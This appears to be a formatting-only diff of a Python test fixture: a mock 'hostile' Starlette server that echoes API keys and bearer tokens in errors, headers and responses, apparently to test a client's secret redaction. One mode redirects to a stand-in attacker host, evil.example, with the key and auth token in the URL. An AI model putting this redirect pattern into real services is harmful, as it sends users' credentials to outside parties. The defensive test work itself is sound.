@@ -37,16 +37,40 @@ def _escaped(text: str) -> str:
 
 def _echo_data(auth: str, key: str, request: Request) -> Any:
     """A success that quotes the key in every field a view, prompt or completion shows."""
-    item = {"mission_id": key, "run_id": key, "step_id": key, "event_id": key, "name": auth,
-            "description": f"{auth} and Bearer {OTHER_TOKEN}", "summary": f"Bearer {OTHER_TOKEN}", "status": "running",
-            "type": "message", "sequence": 1, "timestamp": "2026-01-01T00:00:00Z", "started_at": key,
-            "result_summary": auth, "error": key, "payload": {key: auth}, "metadata": {"auth": auth}}
+    item = {
+        "mission_id": key,
+        "run_id": key,
+        "step_id": key,
+        "event_id": key,
+        "name": auth,
+        "description": f"{auth} and Bearer {OTHER_TOKEN}",
+        "summary": f"Bearer {OTHER_TOKEN}",
+        "status": "running",
+        "type": "message",
+        "sequence": 1,
+        "timestamp": "2026-01-01T00:00:00Z",
+        "started_at": key,
+        "result_summary": auth,
+        "error": key,
+        "payload": {key: auth},
+        "metadata": {"auth": auth},
+    }
     last = request.url.path.rstrip("/").rsplit("/", 1)[-1]
-    listing = request.method == "GET" and last in {"missions", "runs", "events", "steps", "tools", "knowledge-bases",
-                                                   "mcp-servers", "telnyx-agents"}
+    listing = request.method == "GET" and last in {
+        "missions",
+        "runs",
+        "events",
+        "steps",
+        "tools",
+        "knowledge-bases",
+        "mcp-servers",
+        "telnyx-agents",
+    }
     if listing:
-        return {"data": [item], "meta": {"page_number": 1, "page_size": 20, "total_pages": 1, "total_results": 1,
-                                         "note": auth}}
+        return {
+            "data": [item],
+            "meta": {"page_number": 1, "page_size": 20, "total_pages": 1, "total_results": 1, "note": auth},
+        }
     if last == "plan" and request.method == "GET":
         return {"data": [item]}
     return {"data": item}
@@ -54,12 +78,14 @@ def _echo_data(auth: str, key: str, request: Request) -> Any:
 
 MODES: dict[str, Answer] = {
     "detail": lambda auth, key, r: _json(400, {"detail": f"invalid token {auth}; also Bearer {OTHER_TOKEN}"}),
-    "detail-list": lambda auth, key, r: _json(422, {"detail": [
-        {"loc": ["header", "authorization", key], "msg": f"bad {auth}", "type": "x", "input": auth}]}),
+    "detail-list": lambda auth, key, r: _json(
+        422, {"detail": [{"loc": ["header", "authorization", key], "msg": f"bad {auth}", "type": "x", "input": auth}]}
+    ),
     "message": lambda auth, key, r: _json(401, {"message": f"Key {key} is revoked"}),
     "title": lambda auth, key, r: _json(403, {"title": key, "detail": {"nested": auth}}),
-    "errors": lambda auth, key, r: _json(500, {"errors": [
-        {"code": "x", "title": auth, "detail": key, "source": {"header": auth}}, key, {"meta": key}]}),
+    "errors": lambda auth, key, r: _json(
+        500, {"errors": [{"code": "x", "title": auth, "detail": key, "source": {"header": auth}}, key, {"meta": key}]}
+    ),
     "conflict": lambda auth, key, r: _json(409, {"detail": auth}, **{"x-should-retry": "false"}),
     "rate-limited": lambda auth, key, r: _json(429, {"detail": auth, "message": key}),
     "not-found": lambda auth, key, r: _json(404, {"detail": f"no such thing for {auth}"}),
@@ -67,16 +93,19 @@ MODES: dict[str, Answer] = {
     "invalid-json": lambda auth, key, r: _raw(200, f'{{"data": "{auth}'),
     "invalid-json-error": lambda auth, key, r: _raw(400, f'{{"detail": "{key}"'),
     "escaped": lambda auth, key, r: _raw(400, f'{{"detail": "{_escaped(auth)}"}}'),
-    "escaped-success": lambda auth, key, r: _raw(
-        200, json.dumps(_echo_data(auth, key, r)).replace(key, _escaped(key))),
+    "escaped-success": lambda auth, key, r: _raw(200, json.dumps(_echo_data(auth, key, r)).replace(key, _escaped(key))),
     "redirect": lambda auth, key, r: _raw(
-        302, "", "text/plain", Location=f"https://evil.example/{key}?auth={quote(auth)}"),
-    "redirect-same-host": lambda auth, key, r: _raw(307, f"moved {auth}", "text/plain",
-                                                    Location=f"/v2/{key}/elsewhere?token={key}"),
-    "header-echo": lambda auth, key, r: _json(400, {"detail": "no"}, **{
-        "X-Echo": auth, "WWW-Authenticate": f'Bearer realm="{key}"'}),
-    "echo-success": lambda auth, key, r: _json(201 if r.method == "POST" else 200, _echo_data(auth, key, r),
-                                               **{"X-Echo": auth}),
+        302, "", "text/plain", Location=f"https://evil.example/{key}?auth={quote(auth)}"
+    ),
+    "redirect-same-host": lambda auth, key, r: _raw(
+        307, f"moved {auth}", "text/plain", Location=f"/v2/{key}/elsewhere?token={key}"
+    ),
+    "header-echo": lambda auth, key, r: _json(
+        400, {"detail": "no"}, **{"X-Echo": auth, "WWW-Authenticate": f'Bearer realm="{key}"'}
+    ),
+    "echo-success": lambda auth, key, r: _json(
+        201 if r.method == "POST" else 200, _echo_data(auth, key, r), **{"X-Echo": auth}
+    ),
 }
 
 
@@ -101,10 +130,12 @@ def hostile_app() -> Starlette:
         return JSONResponse(state)
 
     methods = ["GET", "POST", "PUT", "PATCH", "DELETE"]
-    app = Starlette(routes=[
-        Route("/__mode/{mode}", switch, methods=["POST"]),
-        Route("/__state", count, methods=["GET"]),
-        Route("/{path:path}", answer, methods=methods),
-    ])
+    app = Starlette(
+        routes=[
+            Route("/__mode/{mode}", switch, methods=["POST"]),
+            Route("/__state", count, methods=["GET"]),
+            Route("/{path:path}", answer, methods=methods),
+        ]
+    )
     app.state.hostile = state
     return app
